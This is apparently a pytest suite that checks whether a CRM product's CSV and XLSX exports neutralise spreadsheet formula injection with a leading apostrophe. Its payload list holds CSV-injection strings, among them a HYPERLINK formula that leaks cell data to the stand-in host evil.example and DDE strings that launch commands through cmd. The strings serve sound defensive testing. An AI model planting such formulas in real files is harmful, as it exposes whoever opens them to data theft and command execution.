"""Formula injection (OWASP "CSV injection") in every file the product writes for a
spreadsheet: the contact and deal exports (CSV and XLSX), the report CSVs, the import
error report and a data subject's export. Text that somebody typed into a form or an
import file and that a spreadsheet program would run (`=HYPERLINK(...)`, a leading `+`,
`-`, `@`, or a tab or carriage return before one) comes out as text, with a leading
apostrophe; a plain number (a phone number in E.164) stays a number."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
import zipfile
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.asyncio(loop_scope="session")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Names keep no leading or trailing space: what the API stores of each.
STRIPPED = list(dict.fromkeys(payload.strip() for payload in PAYLOADS))


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_neutralised(cells: list[Any], where: str) -> None:
    """Every payload is there, as text; no cell starts like a formula. (The API keeps a
    name or a note without its leading tab or carriage return, so the formula after it
    is what must come out as text.)"""
    for payload in PAYLOADS:
        assert "'" + payload.strip() in cells, (where, payload, cells)
    for cell in cells:
        if isinstance(cell, str) and cell[:1] in ("=", "@", "\t", "\r"):
            raise AssertionError(f"{where}: a cell a spreadsheet would run: {cell!r}")


async def ok(reply: Any, status: int = 200) -> Any:
    answer = await reply
    assert answer.status_code == status, (answer.request.url, answer.status_code, answer.text)
    return answer


async def eventually(check: Any, what: str, within: float = 60) -> Any:
    deadline = asyncio.get_running_loop().time() + within
    while True:
        result = await check()
        if result:
            return result
        if asyncio.get_running_loop().time() > deadline:
            raise AssertionError(f"timed out waiting for {what}")
        await asyncio.sleep(0.5)


def admin_of(token_for: Any) -> dict[str, str]:
    return dict(token_for("boss", "admin", "eu", tenant=f"formula-{uuid.uuid4().hex[:8]}"))


async def test_contact_and_deal_exports_neutralise_every_formula(
    api: httpx.AsyncClient, token_for: Any
) -> None:
    admin = admin_of(token_for)
    for payload in PAYLOADS:
        contact = await ok(
            api.post(
                "/v1/contacts",
                json={
                    "first_name": payload,
                    "phones": ["+49 30 1234567"],
                    "address": {"country": "DE"},
                },
                headers=admin,
            ),
            201,
        )
        await ok(
            api.post(
                "/v1/deals",
                json={"title": payload, "contact_id": contact.json()["id"]},
                headers=admin,
            ),
            201,
        )
    contacts = await ok(api.get("/v1/exports/contacts", headers=admin))
    cells = csv_cells(contacts.content)
    assert_neutralised(cells, "contacts CSV")
    assert "+49301234567" in cells  # a phone number is a number, left alone
    workbook = await ok(api.get("/v1/exports/contacts?format=xlsx", headers=admin))
    sheet = load_workbook(io.BytesIO(workbook.content), read_only=True).worksheets[0]
    assert_neutralised(
        [cell for row in sheet.iter_rows(values_only=True) for cell in row], "contacts XLSX"
    )
    deals = await ok(api.get("/v1/exports/deals", headers=admin))
    assert_neutralised(csv_cells(deals.content), "deals CSV")


async def test_report_csv_neutralises_a_stage_named_like_a_formula(
    api: httpx.AsyncClient, token_for: Any
) -> None:
    admin = admin_of(token_for)
    pipeline = await ok(
        api.post(
            "/v1/pipelines",
            json={
                "name": "Windows",
                "stages": [{"name": payload} for payload in STRIPPED]
                + [{"name": "Won", "kind": "won"}, {"name": "Lost", "kind": "lost"}],
            },
            headers=admin,
        ),
        201,
    )
    contact = await ok(
        api.post(
            "/v1/contacts", json={"first_name": "Ana", "address": {"country": "DE"}}, headers=admin
        ),
        201,
    )
    for stage in pipeline.json()["stages"][: len(STRIPPED)]:
        await ok(
            api.post(
                "/v1/deals",
                json={
                    "title": "Six windows",
                    "contact_id": contact.json()["id"],
                    "pipeline_id": pipeline.json()["id"],
                    "stage_id": stage["id"],
                },
                headers=admin,
            ),
            201,
        )

    async def report() -> list[str] | None:
        reply = await ok(
            api.get(
                "/v1/reports/funnel",
                params={"format": "csv", "pipeline": pipeline.json()["id"]},
                headers=admin,
            )
        )
        cells = csv_cells(reply.content)
        found = sum(1 for p in STRIPPED if {p, "'" + p} & set(cells))
        return cells if found == len(STRIPPED) else None

    assert_neutralised(await eventually(report, "every stage in the funnel"), "funnel CSV")


async def test_the_import_error_report_neutralises_the_values_it_quotes(
    api: httpx.AsyncClient, token_for: Any
) -> None:
    admin = admin_of(token_for)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["first_name", "email", "country"])
    for payload in PAYLOADS:
        writer.writerow(["Lead", payload, "DE"])  # not an email address: an error row
    job = (
        await ok(
            api.post("/v1/imports?file_name=leads.csv", content=out.getvalue(), headers=admin),
            201,
        )
    ).json()
    await ok(api.post(f"/v1/imports/{job['id']}/start", json={}, headers=admin), 202)

    async def finished() -> bool:
        current = (await ok(api.get(f"/v1/imports/{job['id']}", headers=admin))).json()
        return bool(current["status"] == "completed")

    await eventually(finished, "the import to finish")
    report = await ok(api.get(f"/v1/imports/{job['id']}/errors", headers=admin))
    rows = list(csv.reader(io.StringIO(report.content.decode("utf-8-sig"))))
    quoted = [row[2] for row in rows[1:] if row[1] == "email" and row[2].startswith("'")]
    # Each bad address is quoted in the report as text (an address list is split at its
    # commas, so the HYPERLINK's second half is a value of its own, starting with '"').
    assert len(quoted) == len(PAYLOADS), rows
    assert not [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rows


async def test_a_subjects_export_neutralises_the_csv_but_keeps_the_json_exact(
    api: httpx.AsyncClient, token_for: Any
) -> None:
    tenant = f"formula-{uuid.uuid4().hex[:8]}"
    admin = token_for("boss", "admin", "eu", tenant=tenant)
    dpo = token_for("dana", "compliance_officer", "eu", tenant=tenant)
    contact = await ok(
        api.post(
            "/v1/contacts",
            json={"first_name": PAYLOADS[0], "address": {"country": "DE"}},
            headers=admin,
        ),
        201,
    )
    for payload in PAYLOADS:
        await ok(
            api.post(
                f"/v1/contacts/{contact.json()['id']}/notes", json={"body": payload}, headers=admin
            ),
            201,
        )
    request = await ok(
        api.post(
            "/v1/privacy/requests",
            json={"kind": "export", "contact_id": contact.json()["id"]},
            headers=dpo,
        ),
        201,
    )
    export = await ok(api.get(f"/v1/privacy/requests/{request.json()['id']}/export", headers=dpo))
    archive = zipfile.ZipFile(io.BytesIO(export.content))
    cells = [
        cell
        for name in archive.namelist()
        if name.endswith(".csv")
        for cell in csv_cells(archive.read(name))
    ]
    assert_neutralised(cells, "subject export CSVs")
    # subject.json is data, not a spreadsheet: the person gets their text exactly.
    assert PAYLOADS[0].replace('"', '\\"') in archive.read("subject.json").decode()
